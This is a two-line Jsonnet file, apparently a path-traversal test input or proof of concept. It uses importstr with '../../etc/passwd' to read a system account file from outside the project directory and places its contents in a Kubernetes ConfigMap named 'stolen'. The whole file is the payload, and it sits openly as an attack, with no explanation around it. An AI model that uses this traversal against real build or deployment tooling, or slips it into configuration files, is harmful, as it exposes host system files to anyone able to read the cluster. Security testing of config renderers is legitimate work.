local secrets = importstr '../../etc/passwd';
{ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'stolen' }, data: { passwd: secrets } }
